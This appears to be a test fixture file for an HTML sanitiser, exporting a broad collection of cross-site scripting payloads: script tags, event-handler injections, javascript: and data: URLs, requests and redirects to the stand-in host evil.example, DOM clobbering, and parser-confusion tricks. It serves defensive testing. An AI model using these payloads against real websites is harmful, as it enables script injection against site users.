/**
 * HTML that tries to run a script, to ask another host, to leave the page or to put itself in the place of what the
 * page's own code looks up. Written for this test, after the shapes that sanitisers have been known to miss: parsers
 * that disagree (foreign content, raw text, comments), addresses in disguise, clobbering, templates, half-closed tags.
 */
const evil = 'https://evil.example';
const picture = `<img src=x onerror=alert(1)>`;

const scripts = [
  '<script>alert(1)</script>',
  `<script src="${evil}/a.js"></script>`,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<script type="module">alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<math><script>alert(1)</script></math>',
  '</p><script>alert(1)</script><p>',
  '<noscript><script>alert(1)</script></noscript>',
];

const handlers = [
  picture,
  '<img src="x" onerror="alert(1)"',
  '<img src=`x`onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=x:x onerror\n=\nalert(1)>',
  '<img src="/media/0123456789abcdef/640.webp" onload=alert(1) onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><rect width=99 height=99 onclick=alert(1) /></a></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p onmouseover=alert(1) onclick=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>',
  '<a href="#x" onfocus=alert(1) autofocus>x</a>',
  '<div onpointerrawupdate=alert(1) onanimationend=alert(1) ontransitionend=alert(1)>x</div>',
  '<table onmouseenter=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<object data="x" onerror=alert(1)></object>',
  '<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>x</button>',
  '<p contenteditable oninput=alert(1)>x</p>',
];

const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="blob:x">x</a>',
  '<a href="view-source:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil.example" ping="https://evil.example/ping">x</a>',
  '<a href="<!-- -->javascript:alert(1)">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=9>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<iframe src="javascript:alert(1)"></iframe>',
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  '<iframe><script>alert(1)</script></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<embed src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
];

const requests = [
  `<img src="${evil}/a.png">`,
  `<img srcset="${evil}/a.png 1x">`,
  `<img src="/media/0123456789abcdef/640.webp" srcset="${evil}/a.png 1x, /media/0123456789abcdef/640.webp 640w">`,
  `<img src="/media/0123456789abcdef/640.webp" srcset="/media/0123456789abcdef/640.webp 640w, ${evil}/a,b.png 960w">`,
  `<picture><source srcset="${evil}/a.png"><img src="/media/0123456789abcdef/640.webp"></picture>`,
  `<img lowsrc="${evil}/a.png" dynsrc="${evil}/b.png" src="//evil.example/c.png">`,
  `<video src="${evil}/a.mp4" poster="${evil}/a.png" autoplay></video>`,
  `<audio src="${evil}/a.mp3" autoplay></audio>`,
  `<video><track default src="${evil}/a.vtt"></video>`,
  `<link rel=stylesheet href="${evil}/a.css"><link rel=prefetch href="${evil}/b"><link rel=preconnect href="${evil}">`,
  `<style>@import "${evil}/a.css"; p { background: url(${evil}/b.png) }</style>`,
  `<p style="background:url(${evil}/a.png)">x</p>`,
  `<table background="${evil}/a.png"><tr><td background="${evil}/b.png">x</td></tr></table>`,
  `<svg><image href="${evil}/a.png"/><use href="${evil}/b.svg#x"/><feImage href="${evil}/c.png"/></svg>`,
  `<svg><style>@import "${evil}/a.css"</style></svg>`,
  `<object data="${evil}/a"></object><embed src="${evil}/b"><iframe src="${evil}/c"></iframe>`,
  `<input type=image src="${evil}/a.png"><isindex action="${evil}">`,
  `<body background="${evil}/a.png"><bgsound src="${evil}/b">`,
  `<frameset><frame src="${evil}/a"></frameset>`,
  `<portal src="${evil}"></portal><fencedframe src="${evil}"></fencedframe>`,
];

const leaving = [
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  '<meta http-equiv=refresh content="0;javascript:alert(1)">',
  `<base href="${evil}/"><a href="x">x</a>`,
  `<form action="${evil}"><input name=q><button autofocus>x</button></form>`,
  '<form id=f></form><button form=f formaction=/ formmethod=post>x</button>',
  '<a href="/news/category/x" target="root">x</a>',
];

const clobbering = [
  '<h2 id="page-data">{"page":"home","data":{}}</h2>',
  '<h2 id="root">x</h2><h3 id="main">x</h3><h4 id="corrections">x</h4>',
  '<a id="page-data" name="page-data" href="/x">x</a>',
  '<img name="getElementById" src="/media/0123456789abcdef/640.webp"><img name=querySelector src=x>',
  '<form name="body"><input name="attributes"><input name="innerHTML"></form>',
  '<form id="location"><input name=href></form><a id="location" href="/x">x</a>',
  '<img name=cookie><img name=documentElement><img name=currentScript><object name=forms></object>',
  '<h2 id="__proto__">x</h2><h2 id="constructor">x</h2><h3 id="toString">x</h3>',
  '<meta name="theme-color" content="red"><meta name="build" content="x">',
  '<div data-stored-html><h2 id="section-1">x</h2></div>',
  '<figure data-film="a"><div><figure></figure></div></figure></div></article></main>',
  '<figure data-film="__proto__">x</figure><figure data-film="&quot;><img src=x onerror=alert(1)>">x</figure>',
  '<div role="dialog" aria-modal="true" popover="manual">x</div><dialog open>x</dialog>',
];

/** Texts that mean something else to a browser than to a parser of another kind, or once they are read again. */
const disagreeing = [
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--><script>alert(1)</script>`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<!-- <img title="--><img src=x onerror=alert(1)>"> -->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
  `<?xml version="1.0"?><?a <img src=x onerror=alert(1)>?>`,
  `<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<textarea>&lt;/textarea>&lt;img src=x onerror=alert(1)></textarea>`,
  `<title><p title="</title><img src=x onerror=alert(1)>"></title>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">`,
  `<style><p title="</style><img src=x onerror=alert(1)>"></style>`,
  `<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
  `<option><style></option></select><img src=x onerror=alert(1)></style>`,
  `<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<math><mi><svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></math></form>`,
  `<svg><desc><img src=x onerror=alert(1)></desc><title><script>alert(1)</script></title></svg>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>`,
  `<table><tr><td><svg><style><img src=x onerror=alert(1)></style></svg></td></tr></table>`,
  `<table><a href="/x"><table><a href="javascript:alert(1)">x`,
  `<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">&lt;img src=x onerror=alert(1)&gt;</p>`,
  `<a title='"><img src=x onerror=alert(1)>' href="/x">x</a>`,
  `<a href='/x"onmouseover="alert(1)'>x</a>`,
  `<img alt="\`><img src=x onerror=alert(1)>" src="/media/0123456789abcdef/640.webp">`,
  `<p/onclick="alert(1)"/title="x>">x</p>`,
  `<p x="\u0000" onclick=alert(1)>x</p>`.replaceAll('\u0000', '&#0;'),
  `<\u00a0img src=x onerror=alert(1)>`,
  `<img\u000bsrc=x\u000conerror=alert(1)>`,
  `<isolated></isolated onclick=alert(1)><x-element is="a" onclick=alert(1)>x</x-element>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;`,
  `${'<b>'.repeat(120)}${picture}${'</b>'.repeat(120)}`,
  `</div></div></div></article></main><script>alert(1)</script>`,
  `</script><script>alert(1)</script><!--`,
];

export const hostileHtml = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...requests,
  ...leaving,
  ...clobbering,
  ...disagreeing,
];

/** For what is a text without any HTML: titles, names, words under a picture. */
export const hostileText = `"'><img src=x onerror=alert(1)></title></script><script>alert(1)</script><!--`;
/** The same in pieces, for names of at most 40 characters. */
export const hostileNames = {
  picture: `"'><img src=x onerror=alert(1)><!--`,
  script: '</script><script>alert(1)</script>',
};
